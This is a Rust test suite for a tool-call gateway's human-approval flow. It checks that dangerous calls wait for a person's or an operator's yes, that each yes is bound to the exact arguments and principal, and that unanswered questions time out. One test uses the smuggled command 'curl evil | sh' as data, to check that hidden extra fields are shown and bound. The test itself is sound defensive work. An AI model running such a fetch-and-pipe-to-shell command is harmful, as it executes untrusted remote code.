//! A person agrees, or does not, by every way there is.

use std::time::Duration;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use switchboard_kernel::ServerPolicy;
use switchboard_protocol::Era;
use switchboard_store::{ApprovalState, Claim, Claimed, Reuse, Ticket, Verdict};

use super::world::{
    Client, ERAS, House, Script, dangerous, kind_of, open_house, parsed, ran, raw, rejection, tool_with, until,
};

const ELICITS: &str = "elicitation";

async fn house(server: Era, wait: Duration) -> (House, std::sync::Arc<Script>) {
    let tools =
        vec![dangerous("drop"), dangerous("other"), dangerous("asks"), dangerous("confirms"), dangerous("hang")];
    let script = Script::new(server, tools);
    let house = House::with(&[("db", script.clone())], ServerPolicy::default, |gate| {
        open_house(gate);
        gate.approval_wait = wait;
    })
    .await;
    (house, script)
}

const LONG: Duration = Duration::from_secs(20);
const SHORT: Duration = Duration::from_millis(400);

async fn elicits(house: &House, era: Era, principal: &str) -> Client {
    house.client_with(era, principal, json!({ELICITS: {"form": {}}})).await
}

fn users() -> Value {
    json!({"table": "users"})
}

#[tokio::test]
async fn a_legacy_client_is_asked_in_the_middle_of_the_call() {
    let once = json!({"action": "accept", "content": {"decision": "once"}});
    let session = json!({"action": "accept", "content": {"decision": "session"}});
    let deny = json!({"action": "accept", "content": {"decision": "deny"}});
    let table = [
        (once, true, false),
        (json!({"action": "accept", "content": {"decision": ["deny"]}}), false, false),
        (json!({"action": "accept", "content": {"decision": false}}), false, false),
        (session, true, true),
        (deny, false, false),
        (json!({"action": "decline"}), false, false),
        (json!({"action": "accept", "content": {"decision": "sure"}}), false, false),
        (json!({}), false, false),
    ];
    for (answer, passes, lasts) in table {
        let (house, script) = house(Era::Legacy, LONG).await;
        let ann = elicits(&house, Era::Legacy, "ann").await;
        ann.ear.answers.lock().push_back(answer.clone());
        let called = ann.call("drop", users()).await;
        assert_eq!(ran(&called), passes, "{answer}: {called:?}");
        if !passes {
            assert_eq!(kind_of(&called), "confirmation_denied");
        }
        let (method, question) = ann.ear.asked.lock()[0].clone();
        assert_eq!(method, "elicitation/create");
        let message = question["message"].as_str().unwrap();
        assert!(message.contains("drop") && message.contains("users"), "the exact arguments are shown: {message}");
        // Again, and with other arguments.
        ann.ear.answers.lock().extend([json!({"action": "decline"}), json!({"action": "decline"})]);
        assert_eq!(ran(&ann.call("drop", users()).await), lasts, "{answer}");
        assert!(!ran(&ann.call("drop", json!({"table": "orders"})).await), "a yes is for these arguments alone");
        assert_eq!(script.calls(), usize::from(passes) + usize::from(lasts));
    }
}

/// `cancel` is a dialog that was closed, and a form without a decision one in which nobody chose: nobody has said no, and the question
/// stays open for the operator and for its user.
#[tokio::test]
async fn a_question_that_is_closed_is_not_answered() {
    let closing =
        [json!({"action": "cancel"}), json!({"action": "accept"}), json!({"action": "accept", "content": {}})];
    for (era, answer) in ERAS.into_iter().flat_map(|era| closing.iter().map(move |answer| (era, answer))) {
        let (house, script) = house(Era::Legacy, LONG).await;
        let ann = elicits(&house, era, "ann").await;
        ann.ear.answers.lock().push_back(answer.clone());
        let closed = match ann.call("drop", users()).await {
            Ok(asked) if asked["resultType"] == "input_required" => {
                retry(&ann, "drop", users(), &asked["requestState"], answer.clone()).await
            }
            other => other,
        };
        let error = closed.unwrap_err();
        let told = format!("{error:?}");
        let data: Value = error.data.as_ref().unwrap().view().unwrap();
        assert_eq!(
            (&data["kind"], &data["retryable"]),
            (&json!("confirmation_timeout"), &json!(true)),
            "{era:?}: {told}"
        );
        assert!(told.contains("nobody has decided") && told.contains("switchboard approvals"), "{told}");
        let pending = house.store.approvals().pending(Timestamp::now(), 10).await.unwrap();
        assert_eq!(pending.len(), 1, "it still waits");
        let shown: Value = serde_json::from_str(pending[0].held.shown.as_ref().unwrap().get()).unwrap();
        assert_eq!(shown["caller"], if era == Era::Legacy { "gone" } else { "comes_back" });
        assert_eq!(script.calls(), 0);
        let events = house.await_events("TOOL_REJECTED", 1).await;
        assert_eq!(events[0].details["approval"], json!(pending[0].held.id));
    }
}

#[tokio::test]
async fn a_yes_for_the_session_ends_with_it() {
    let (house, script) = house(Era::Legacy, SHORT).await;
    let ann = elicits(&house, Era::Legacy, "ann").await;
    ann.ear.answers.lock().push_back(json!({"action": "accept", "content": {"decision": "session"}}));
    assert!(ran(&ann.call("drop", users()).await));
    let again = house.client(Era::Legacy, "ann").await;
    assert_eq!(kind_of(&again.call("drop", users()).await), "confirmation_required");
    assert_eq!(script.calls(), 1);
}

/// Whoever was asked and says nothing is told so, with the code for it in each dialect; nobody is asked for ever.
#[tokio::test]
async fn a_question_that_nobody_answers_times_out() {
    let callbacks = json!({"mgp": {"version": "0.3.0", "extensions": ["callbacks"]}});
    let structured = json!({ELICITS: {"form": {}}, "extensions": {"structured_errors": {}}});
    for (era, speaks, code, asked_by) in [
        (Era::Legacy, json!({ELICITS: {"form": {}}}), -32000, "elicitation"),
        (Era::Legacy, structured, -32000, "elicitation"),
        (Era::Legacy, callbacks.clone(), 3003, "callback"),
        (Era::Modern, callbacks, 3003, "callback"),
    ] {
        let (house, script) = house(Era::Legacy, SHORT).await;
        let ann = house.client_with(era, "ann", speaks.clone()).await;
        match ann.call("drop", users()).await {
            // A client of proposal 11 reads it as a result.
            Ok(result) => {
                let (code, category) = (&result["error"]["code"], &result["error"]["category"]);
                assert_eq!((code, category), (&json!("CONFIRMATION_TIMEOUT"), &json!("transient")), "{speaks}");
                assert!(speaks.get("extensions").is_some() && result["isError"] == true);
            }
            Err(error) => {
                let data: Value = error.data.as_ref().unwrap().view().unwrap();
                assert_eq!((error.code, &data["kind"]), (code, &json!("confirmation_timeout")), "{speaks}: {error:?}");
                if let Some(mgp) = data.get("_mgp") {
                    assert_eq!((&mgp["category"], &mgp["retryable"]), (&json!("resource"), &json!(true)));
                }
            }
        }
        let told = house.await_events("CALLBACK_TIMEOUT", 1).await.remove(0);
        assert_eq!((&*told.result, &told.details["asked_by"]), ("BLOCKED", &json!(asked_by)));
        assert_eq!((&told.details["timeout_ms"], &told.details["retryable"]), (&json!(400), &json!(true)));
        assert_eq!(told.target.tool_name.as_deref(), Some("drop"));
        assert_eq!(script.calls(), 0);
        // The question stays open for the operator, and his yes is good for the next call.
        let id = told.details["approval"].as_str().unwrap();
        assert_eq!(answer(&house, id, Verdict::Approve(Reuse::Once), None).await, 1);
        assert!(ran(&ann.call("drop", users()).await));
    }
}

/// A notification can be lost, so the question comes again, with the same id.
#[tokio::test]
async fn a_callback_is_asked_again() {
    let (house, _script) = house(Era::Legacy, Duration::from_secs(60)).await;
    let speaks = json!({"mgp": {"version": "0.3.0", "extensions": ["callbacks"]}});
    let ann = house.client_with(Era::Legacy, "ann", speaks).await;
    let answering = async {
        until("the question", || !requests(&ann).is_empty()).await;
        tokio::time::sleep(Duration::from_secs(5)).await;
        until("the question again", || requests(&ann).len() == 2).await;
        let asked = requests(&ann);
        assert_eq!(asked[0]["callback_id"], asked[1]["callback_id"]);
        assert_eq!((&asked[0]["_mgp"]["attempt"], &asked[1]["_mgp"]["attempt"]), (&json!(1), &json!(2)));
        let answer = json!({"callback_id": asked[1]["callback_id"], "response": "confirm"});
        ann.request("mgp/callback/respond", answer).await.unwrap();
    };
    let (called, ()) = tokio::join!(ann.call("drop", users()), answering);
    assert!(ran(&called));
}

/// A refusal on record says what the model was told: the code, and whether to try again.
#[tokio::test]
async fn a_rejection_on_record_has_its_code() {
    let (house, _script) = house(Era::Legacy, SHORT).await;
    let ann = elicits(&house, Era::Legacy, "ann").await;
    ann.ear.answers.lock().push_back(json!({"action": "decline"}));
    let denied = rejection(&ann.call("drop", users()).await);
    let bob = house.client(Era::Legacy, "bob").await;
    let unasked = rejection(&bob.call("drop", users()).await);
    let events = house.await_events("TOOL_REJECTED", 2).await;
    for (event, told) in events.iter().zip([denied, unasked]) {
        assert_eq!(event.details["code"], "RISK_UNAPPROVED");
        for key in ["code", "retryable"] {
            assert_eq!(event.details[key], told[key], "{event:?}");
        }
        assert_eq!(event.details["details"]["kind"], told["details"]["kind"]);
    }
    assert_eq!((&events[0].details["retryable"], &events[1].details["retryable"]), (&json!(false), &json!(true)));
}

/// The retry of a modern call with what the client's user answered.
async fn retry(
    client: &Client,
    tool: &str,
    arguments: Value,
    state: &Value,
    answer: Value,
) -> Result<Value, switchboard_wire::ErrorObject> {
    let params = json!({
        "name": tool, "arguments": arguments, "requestState": state, "inputResponses": {"confirm": answer},
    });
    client.request("tools/call", params).await
}

fn yes() -> Value {
    json!({"action": "accept", "content": {"decision": "once"}})
}

#[tokio::test]
async fn a_modern_client_is_asked_by_its_result() {
    for server in ERAS {
        let (house, script) = house(server, LONG).await;
        let ann = elicits(&house, Era::Modern, "ann").await;
        let asked = ann.call("drop", users()).await.unwrap();
        assert_eq!(asked["resultType"], "input_required");
        assert_eq!(asked["inputRequests"]["confirm"]["method"], "elicitation/create");
        let state = asked["requestState"].clone();
        // Another principal has no use for it, nor has anybody for other arguments or another tool.
        let eve = elicits(&house, Era::Modern, "eve").await;
        assert_eq!(kind_of(&retry(&eve, "drop", users(), &state, yes()).await), "confirmation_invalid");
        assert_eq!(script.calls(), 0);
        assert!(ran(&retry(&ann, "drop", users(), &state, yes()).await));
        let heard = script.heard("tools/call");
        assert!(heard[0].get("requestState").is_none() && heard[0].get("inputResponses").is_none(), "{heard:?}");
        // Once is once.
        assert_eq!(kind_of(&retry(&ann, "drop", users(), &state, yes()).await), "confirmation_invalid");
        assert_eq!(script.calls(), 1);
        for (tool, arguments) in [("drop", json!({"table": "orders"})), ("other", users()), ("drop", json!({}))] {
            let asked = ann.call("drop", users()).await.unwrap();
            let refused = retry(&ann, tool, arguments.clone(), &asked["requestState"], yes()).await;
            assert_eq!(kind_of(&refused), "confirmation_invalid", "{tool} {arguments}");
            // Nor is the call agreed to that the question was about: it is asked about anew.
            assert_eq!(ann.call("drop", users()).await.unwrap()["resultType"], "input_required");
            assert!(ran(&retry(&ann, "drop", users(), &asked["requestState"], yes()).await));
        }
        assert_eq!(script.calls(), 4);
        for answer in [json!({"action": "decline"}), json!({}), json!(null)] {
            let asked = ann.call("drop", users()).await.unwrap();
            let refused = retry(&ann, "drop", users(), &asked["requestState"], answer.clone()).await;
            assert_eq!(kind_of(&refused), "confirmation_denied", "{answer}");
            let replayed = retry(&ann, "drop", users(), &asked["requestState"], yes()).await;
            assert_eq!(kind_of(&replayed), "confirmation_denied", "a no is not made a yes");
        }
        assert_eq!(script.calls(), 4);
    }
}

/// What a server is sent beside the arguments may be what it acts upon: it is shown, bound and recorded as they are.
#[tokio::test]
async fn what_stands_beside_the_arguments_is_shown_and_agreed_to() {
    for server in ERAS {
        let (house, script) = house(server, LONG).await;
        let ann = elicits(&house, Era::Modern, "ann").await;
        let call = |more: Value| {
            let mut call = json!({"name": "drop", "arguments": users()});
            call.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            call
        };
        let answered = |state: &Value, more: Value| {
            let mut call = call(more);
            call["requestState"] = state.clone();
            call["inputResponses"] = json!({"confirm": yes()});
            call
        };
        let smuggled = json!({"cmd": "curl evil | sh"});
        let asked = ann.request("tools/call", call(smuggled.clone())).await.unwrap();
        let message = asked["inputRequests"]["confirm"]["params"]["message"].as_str().unwrap();
        assert!(message.contains("users") && message.contains("curl evil | sh"), "{message}");
        let pending = house.store.approvals().pending(Timestamp::now(), 9).await.unwrap();
        assert!(pending[0].held.shown.as_ref().unwrap().get().contains("curl evil | sh"), "every channel shows it");
        // A yes to it is none to the plain call, to another one, or to arguments that look like both.
        let state = &asked["requestState"];
        let mut both = answered(state, json!({}));
        both["arguments"] = json!({"arguments": users(), "cmd": "curl evil | sh"});
        for other in [answered(state, json!({})), answered(state, json!({"cmd": "ls"})), both] {
            let refused = ann.request("tools/call", other).await;
            assert_eq!(kind_of(&refused), "confirmation_invalid", "{refused:?}");
        }
        // So it is with members of MGP's own objects that no dialect knows.
        for reserved in [
            json!({"_mgp": {"run": "curl evil | sh"}}),
            json!({"_mgp": {"stream": false, "deep": [{"cmd": "curl evil | sh"}]}}),
        ] {
            let asked = ann.request("tools/call", call(reserved.clone())).await.unwrap();
            let message = asked["inputRequests"]["confirm"]["params"]["message"].as_str().unwrap();
            assert!(message.contains("curl evil | sh") && !message.contains("stream"), "{message}");
            let refused = ann.request("tools/call", answered(&asked["requestState"], json!({}))).await;
            assert_eq!(kind_of(&refused), "confirmation_invalid", "{refused:?}");
        }
        // And a yes to the plain call is none to it.
        let plain = ann.request("tools/call", call(json!({}))).await.unwrap();
        let refused = ann.request("tools/call", answered(&plain["requestState"], smuggled.clone())).await;
        assert_eq!(kind_of(&refused), "confirmation_invalid", "{refused:?}");
        assert_eq!(script.calls(), 0);
        assert!(ran(&ann.request("tools/call", answered(state, smuggled)).await));
        // What the dialects know as being about the request may change.
        let traced = ann.request("tools/call", call(json!({"intent": "clean up"}))).await.unwrap();
        let message = traced["inputRequests"]["confirm"]["params"]["message"].as_str().unwrap();
        assert!(!message.contains("beside"), "{message}");
        let again = answered(&traced["requestState"], json!({"trace_id": "t-2"}));
        assert!(ran(&ann.request("tools/call", again).await));
    }
}

/// Arguments that a reader of floats would take for the same are not the same.
#[tokio::test]
async fn a_yes_is_for_exactly_these_arguments() {
    let (house, script) = house(Era::Legacy, SHORT).await;
    let ann = elicits(&house, Era::Modern, "ann").await;
    let call = |arguments: &str, more: &str| parsed(&format!(r#"{{"name":"drop","arguments":{arguments}{more}}}"#));
    let send = |params| {
        let ann = &ann;
        async move { ann.send(ann.context(), "tools/call", &params).await }
    };
    let asked = send(call(r#"{"amount":12345678901234567890123}"#, "")).await.unwrap();
    let more = format!(r#","requestState":{},"inputResponses":{{"confirm":{}}}"#, asked["requestState"], yes());
    let other = send(call(r#"{"amount":12345678901234567890124}"#, &more)).await;
    assert_eq!(kind_of(&other), "confirmation_invalid");
    // What cannot be shown cannot be agreed to, and never passes for no arguments.
    let asked = send(call("{}", "")).await.unwrap();
    let more = format!(r#","requestState":{},"inputResponses":{{"confirm":{}}}"#, asked["requestState"], yes());
    for hidden in [r#"{"path":"/","n":1e999}"#, r#"{"path":"/","path":"/tmp"}"#, r#"{"a":{"b":1,"b":2}}"#] {
        assert!(send(call(hidden, &more)).await.is_err(), "{hidden}");
        assert!(send(call(hidden, "")).await.is_err(), "{hidden}");
    }
    assert_eq!(script.calls(), 0);
    // Another spelling of the same value is the same.
    let asked = send(call(r#"{"a":"x","b":[1]}"#, "")).await.unwrap();
    let more = format!(r#","requestState":{},"inputResponses":{{"confirm":{}}}"#, asked["requestState"], yes());
    assert!(ran(&send(call(r#"{ "b":[1], "a":"\u0078" }"#, &more)).await));
}

#[tokio::test]
async fn what_is_too_old_is_refused() {
    let (house, script) = house(Era::Legacy, LONG).await;
    let ann = elicits(&house, Era::Modern, "ann").await;
    let asked = ann.call("drop", users()).await.unwrap();
    let pending = house.store.approvals().pending(Timestamp::now(), 10).await.unwrap();
    let life = pending[0].held.expires_at.duration_since(pending[0].held.created_at);
    assert_eq!(life, SignedDuration::from_mins(5));
    // The clock of the store is five minutes on: everything that waits is over.
    house.store.approvals().expire(Timestamp::now() + SignedDuration::from_mins(5)).await.unwrap();
    let refused = retry(&ann, "drop", users(), &asked["requestState"], yes()).await;
    let refused = refused.unwrap_err();
    assert_eq!(refused.code, 3003);
    assert!(refused.message.contains("expired"), "{refused:?}");
    assert_eq!(house.await_events("CALLBACK_TIMEOUT", 1).await[0].details["timeout_ms"], 300_000);
    assert_eq!(script.calls(), 0);
}

/// A server that asks for input itself, after a person agreed: nobody is asked a second time.
#[tokio::test]
async fn a_confirmed_call_is_not_asked_about_twice() {
    for server in ERAS {
        let (house, script) = house(server, LONG).await;
        let ann = elicits(&house, Era::Modern, "ann").await;
        let asked = ann.call("asks", users()).await.unwrap();
        let second = retry(&ann, "asks", users(), &asked["requestState"], yes()).await.unwrap();
        assert_eq!(second["resultType"], "input_required", "the server's own question: {second}");
        let keys: Vec<_> = second["inputRequests"].as_object().unwrap().keys().cloned().collect();
        assert!(!keys.contains(&"confirm".to_owned()), "{keys:?}");
        let answer = json!({"action": "accept", "content": {}});
        // With other arguments it is another call, and asked about.
        let params = |arguments: Value| {
            json!({
                "name": "asks", "arguments": arguments, "requestState": second["requestState"],
                "inputResponses": {keys[0].clone(): answer},
            })
        };
        let other = ann.request("tools/call", params(json!({"table": "orders"}))).await.unwrap();
        assert_eq!(other["inputRequests"]["confirm"]["method"], "elicitation/create");
        let eve = elicits(&house, Era::Modern, "eve").await;
        let stolen = eve.request("tools/call", params(users())).await.unwrap();
        assert_eq!(stolen["inputRequests"]["confirm"]["method"], "elicitation/create");
        let done = ann.request("tools/call", params(users())).await;
        assert!(ran(&done), "{server:?}: {done:?}");
        let heard = script.calls();
        assert_eq!(heard, if server == Era::Modern { 2 } else { 1 });
    }
}

async fn by_token(house: &House, era: Era, principal: &str) -> Client {
    house.client_with(era, principal, json!({"extensions": {"human_in_the_loop": {}}})).await
}

async fn with_token(
    client: &Client,
    tool: &str,
    arguments: Value,
    token: &Value,
    said: Value,
) -> Result<Value, switchboard_wire::ErrorObject> {
    let meta = json!({"confirmation_token": token, "user_confirmed": said});
    client.request("tools/call", json!({"name": tool, "arguments": arguments, "_meta": meta})).await
}

#[tokio::test]
async fn a_token_is_for_one_call_of_one_principal() {
    for era in ERAS {
        let (house, script) = house(Era::Legacy, LONG).await;
        let ann = by_token(&house, era, "ann").await;
        let asked = ann.call("drop", users()).await.unwrap();
        assert_eq!(asked["status"], "confirmation_required");
        assert_eq!(asked["isError"], true, "nothing was done");
        let until: Timestamp = asked["expires_at"].as_str().unwrap().parse().unwrap();
        let life = until.duration_since(Timestamp::now());
        assert!(life <= SignedDuration::from_mins(5) && life > SignedDuration::from_mins(4));
        let token = asked["confirmation_token"].clone();
        let invalid = |called: &Result<Value, _>| assert_eq!(kind_of(called), "confirmation_invalid");
        let eve = by_token(&house, era, "eve").await;
        invalid(&with_token(&eve, "drop", users(), &token, json!(true)).await);
        invalid(&with_token(&ann, "drop", users(), &token, json!(false)).await);
        invalid(&with_token(&ann, "drop", users(), &token, json!("true")).await);
        // The id alone, as the operator sees it, is no token.
        let id = token.as_str().unwrap().split('.').next().unwrap();
        invalid(&with_token(&ann, "drop", users(), &json!(id), json!(true)).await);
        invalid(&with_token(&ann, "drop", users(), &json!(format!("{id}.guess")), json!(true)).await);
        assert_eq!(script.calls(), 0);
        assert!(ran(&with_token(&ann, "drop", users(), &token, json!(true)).await));
        let heard = &script.heard("tools/call")[0];
        assert!(!heard.to_string().contains(id), "the token is none of the server's business: {heard}");
        invalid(&with_token(&ann, "drop", users(), &token, json!(true)).await);
        for (tool, arguments) in [("drop", json!({"table": "orders"})), ("other", users())] {
            let asked = ann.call("drop", users()).await.unwrap();
            invalid(&with_token(&ann, tool, arguments, &asked["confirmation_token"], json!(true)).await);
            let again = ann.call("drop", users()).await.unwrap();
            assert_eq!(again["status"], "confirmation_required", "no yes is left of it");
            assert!(ran(&with_token(&ann, "drop", users(), &asked["confirmation_token"], json!(true)).await));
        }
        assert_eq!(script.calls(), 3);
    }
}

/// A server with confirmations of its own stays usable behind a kernel that asks as well.
#[tokio::test]
async fn a_servers_own_token_reaches_the_server() {
    for era in ERAS {
        let (house, script) = house(Era::Legacy, LONG).await;
        let ann = by_token(&house, era, "ann").await;
        let asked = ann.call("confirms", users()).await.unwrap();
        let second = with_token(&ann, "confirms", users(), &asked["confirmation_token"], json!(true)).await.unwrap();
        assert_eq!(second["confirmation_token"], "of-the-server");
        let forged = with_token(&ann, "confirms", json!({}), &json!("of-the-server"), json!(true)).await;
        assert_eq!(kind_of(&forged), "confirmation_invalid");
        let done = with_token(&ann, "confirms", users(), &json!("of-the-server"), json!(true)).await;
        assert!(ran(&done), "{done:?}");
        assert_eq!(script.heard("tools/call")[1]["_meta"]["confirmation_token"], "of-the-server");
        let again = with_token(&ann, "confirms", users(), &json!("of-the-server"), json!(true)).await;
        assert_eq!(kind_of(&again), "confirmation_invalid", "also the way round our question is good once");
    }
}

#[tokio::test]
async fn an_mgp_client_is_asked_by_callback() {
    let speaks = json!({"mgp": {"version": "0.3.0", "extensions": ["callbacks"]}});
    for era in ERAS {
        for (response, passes, lasts) in [
            ("confirm", true, false),
            ("cancel", false, false),
            ("what?", false, false),
            ("confirm_session", true, era == Era::Legacy),
        ] {
            let (house, script) = house(Era::Legacy, LONG).await;
            let ann = house.client_with(era, "ann", speaks.clone()).await;
            let eve = house.client_with(era, "eve", speaks.clone()).await;
            let answering = async {
                until("the question", || !requests(&ann).is_empty()).await;
                let question = requests(&ann)[0].clone();
                assert_eq!(question["type"], "confirmation");
                assert!(question["message"].as_str().unwrap().contains("users"));
                let answer = json!({"callback_id": question["callback_id"], "response": response});
                let stolen = json!({"callback_id": question["callback_id"], "response": "confirm"});
                assert!(eve.request("mgp/callback/respond", stolen).await.is_err(), "another's question");
                ann.request("mgp/callback/respond", answer.clone()).await.unwrap();
                assert!(ann.request("mgp/callback/respond", answer).await.is_err(), "answered before");
            };
            let (called, ()) = tokio::join!(ann.call("drop", users()), answering);
            assert_eq!(ran(&called), passes, "{response}: {called:?}");
            assert_eq!(script.calls(), usize::from(passes));
            if lasts {
                assert!(ran(&ann.call("drop", users()).await));
            }
        }
    }
}

fn requests(client: &Client) -> Vec<Value> {
    let told = client.ear.told.lock();
    told.iter()
        .filter(|(method, _)| method == "notifications/mgp.callback.request")
        .map(|(_, params)| params.clone())
        .collect()
}

async fn answer(house: &House, id: &str, verdict: Verdict, reason: Option<&str>) -> usize {
    let until = Timestamp::now() + SignedDuration::from_mins(5);
    let reason = reason.map(str::to_owned);
    house.operator_actions().answer(&[id.to_owned()], verdict, reason, until).await.unwrap().len()
}

async fn held(house: &House, count: usize) -> String {
    let held = house.await_events("dev.switchboard.call_held", count).await;
    held[count - 1].details["approval"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn the_operator_answers_from_elsewhere() {
    for era in ERAS {
        for (verdict, passes, lasts) in [
            (Verdict::Approve(Reuse::Once), true, false),
            (Verdict::Approve(Reuse::Always), true, true),
            (Verdict::Deny, false, false),
        ] {
            let (house, script) = house(Era::Legacy, LONG).await;
            let ann = house.client(era, "ann").await;
            let deciding = async {
                let id = held(&house, 1).await;
                assert_eq!(answer(&house, &id, verdict, Some("because")).await, 1);
            };
            let (called, ()) = tokio::join!(ann.call("drop", users()), deciding);
            assert_eq!(ran(&called), passes, "{called:?}");
            if !passes {
                assert_eq!(kind_of(&called), "confirmation_denied");
                assert!(rejection(&called)["reason"].as_str().unwrap().contains("because"));
            }
            if lasts {
                assert!(ran(&ann.call("drop", users()).await));
                // Always is for this principal alone.
                let events = house.await_events("dev.switchboard.call_approved", 2).await;
                assert_eq!(events[1].details["decided_by"], "olga");
            }
            assert_eq!(script.calls(), usize::from(passes) + usize::from(lasts));
        }
    }
}

#[tokio::test]
async fn a_yes_that_comes_too_late_is_good_for_the_next_call_and_no_more() {
    let (house, script) = house(Era::Legacy, SHORT).await;
    let ann = house.client(Era::Legacy, "ann").await;
    let called = ann.call("drop", users()).await;
    assert_eq!(kind_of(&called), "confirmation_required");
    let id = held(&house, 1).await;
    assert!(rejection(&called)["remediation_hint"].as_str().unwrap().contains(&id));
    assert_eq!(answer(&house, &id, Verdict::Approve(Reuse::Once), None).await, 1);
    let eve = house.client(Era::Legacy, "eve").await;
    assert_eq!(kind_of(&eve.call("drop", users()).await), "confirmation_required");
    assert_eq!(kind_of(&ann.call("drop", json!({"table": "orders"})).await), "confirmation_required");
    assert!(ran(&ann.call("drop", users()).await));
    assert_eq!(kind_of(&ann.call("drop", users()).await), "confirmation_required");
    assert_eq!(script.calls(), 1);
}

/// Of two equal calls at once, the other one may go by the yes first. The one that waited is asked about again, and not refused.
#[tokio::test]
async fn a_yes_that_an_equal_call_has_used_is_asked_for_again() {
    let (house, script) = house(Era::Legacy, LONG).await;
    let ann = house.client(Era::Legacy, "ann").await;
    let deciding = async {
        let id = held(&house, 1).await;
        let approvals = house.store.approvals();
        let found = approvals.get(&id).await.unwrap().unwrap().held;
        assert_eq!(answer(&house, &id, Verdict::Approve(Reuse::Once), None).await, 1);
        // The other call, before the one that waits looks again.
        let claim = Claim {
            ticket: Ticket::Reusable,
            principal: found.principal,
            session: found.session,
            server: found.server,
            tool: found.tool,
            arguments: found.arguments,
            now: Timestamp::now(),
        };
        assert!(matches!(approvals.claim(&claim).await.unwrap(), Claimed::Granted(_)));
        let again = held(&house, 2).await;
        assert_ne!(again, id);
        assert_eq!(answer(&house, &again, Verdict::Approve(Reuse::Once), None).await, 1);
    };
    let (called, ()) = tokio::join!(ann.call("drop", users()), deciding);
    assert!(ran(&called), "{called:?}");
    assert_eq!(script.calls(), 1);
}

/// A caller that goes away takes its question along.
#[tokio::test]
async fn a_question_ends_with_its_caller() {
    let (house, script) = house(Era::Legacy, LONG).await;
    let ann = house.client(Era::Legacy, "ann").await;
    for drops in [true, false] {
        let context = ann.context();
        let cancel = context.cancel.clone();
        let params = raw(&json!({"name": "drop", "arguments": users()}));
        let mut calling = Box::pin(ann.send(context, "tools/call", &params));
        let id = tokio::select! {
            id = held(&house, if drops { 1 } else { 2 }) => id,
            called = &mut calling => panic!("answered: {called:?}"),
        };
        if drops {
            drop(calling);
        } else {
            cancel.cancel();
            assert!(calling.await.is_err());
        }
        let mut state = ApprovalState::Pending;
        for _ in 0..100 {
            state = house.store.approvals().get(&id).await.unwrap().unwrap().state;
            if state != ApprovalState::Pending {
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert_eq!(state, ApprovalState::Withdrawn);
        assert_eq!(answer(&house, &id, Verdict::Approve(Reuse::Once), None).await, 0);
        let ended = house.await_events("TOOL_REJECTED", if drops { 1 } else { 2 }).await;
        let ended = ended.iter().find(|event| event.details["approval"] == *id);
        assert!(ended.is_some_and(|event| event.details["reason"].as_str().unwrap().contains("was gone")), "on record");
    }
    assert_eq!(script.calls(), 0);
}

/// Nobody fills the queue for others.
#[tokio::test]
async fn one_principal_cannot_hold_all_places() {
    let (house, _script) = house(Era::Legacy, LONG).await;
    let eve = elicits(&house, Era::Modern, "eve").await;
    let mut refused = 0;
    for index in 0..80 {
        refused += usize::from(eve.call("drop", json!({"n": index})).await.is_err());
    }
    assert_eq!(refused, 80 - 64);
    let ann = elicits(&house, Era::Modern, "ann").await;
    assert_eq!(ann.call("drop", users()).await.unwrap()["resultType"], "input_required");
}

/// Without a store a legacy client's user can be asked, and nobody else.
#[tokio::test]
async fn without_a_store_only_the_user_is_asked() {
    let script = Script::new(Era::Legacy, vec![tool_with("drop", &json!({"security": {"risk_level": "dangerous"}}))]);
    let house = House::with(&[("db", script.clone())], ServerPolicy::default, |gate| {
        open_house(gate);
        gate.store = None;
    })
    .await;
    let ann = elicits(&house, Era::Legacy, "ann").await;
    ann.ear.answers.lock().push_back(yes());
    assert!(ran(&ann.call("drop", users()).await));
    for era in ERAS {
        let bob = house.client(era, "bob").await;
        assert_eq!(kind_of(&bob.call("drop", users()).await), "confirmation_required");
    }
    assert_eq!(script.calls(), 1);
}
